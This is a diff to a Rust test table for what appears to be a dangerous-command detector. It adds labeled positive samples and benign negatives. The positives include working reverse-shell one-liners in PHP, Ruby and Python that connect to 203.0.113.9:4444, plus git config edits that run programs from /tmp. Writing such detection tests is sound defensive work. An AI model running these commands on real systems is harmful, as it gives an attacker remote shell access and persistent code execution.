@@ -1952,6 +1952,40 @@ fn commands_table() {
             "cp /tmp/cfg .git/config",
             "",
         ),
+        (
+            "code_reverse_shell",
+            "php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"sh <&3 >&3 2>&3\");'",
+            "",
+        ),
+        (
+            "code_reverse_shell",
+            "ruby -rsocket -e 'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.9\",4444))'",
+            "",
+        ),
+        (
+            "code_reverse_shell",
+            "import socket, os, subprocess
+s = socket.socket()
+s.connect((\"203.0.113.9\", 4444))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+subprocess.call([\"/bin/sh\", \"-i\"])
+",
+            "",
+        ),
+        (
+            "git_config_runs_program",
+            "cat > .git/config <<EOF
+[core]
+	hooksPath = /tmp/h
+EOF",
+            "",
+        ),
+        (
+            "git_config_runs_program",
+            "printf '[alias]\\n\\tsync = !sh /tmp/s\\n' >> ~/.gitconfig",
+            "",
+        ),
         ("sql_grant_all", "psql -c \"ALTER USER eve WITH SUPERUSER\"", ""),
         (
             "sql_grant_all",
@@ -2047,6 +2081,14 @@ fn commands_table() {
         "cat /etc/ld.so.preload",
         "cat .git/config",
         "ALTER ROLE app NOSUPERUSER;",
+        "echo done >> /var/log/messages",
+        "./backup.sh >> /var/log/syslog 2>&1",
+        "def load_file(path):
+    return open(path).read()",
+        "data = self.load_file(\"config.json\")",
+        "copy setup.exe to Program Files and run it",
+        "az storage account update -n data --allow-blob-public-access false",
+        "python3 -c 'import socket;s=socket.socket();s.connect((\"db\",5432));msg={\"cmd\":\"ping\"};print(msg[\"cmd\"])'",
         "COPY (SELECT * FROM orders) TO STDOUT WITH CSV HEADER",
         "\\copy orders to 'orders.csv' csv header",
         "CREATE FUNCTION add(a int, b int) RETURNS int AS $$ SELECT a + b $$ LANGUAGE SQL",
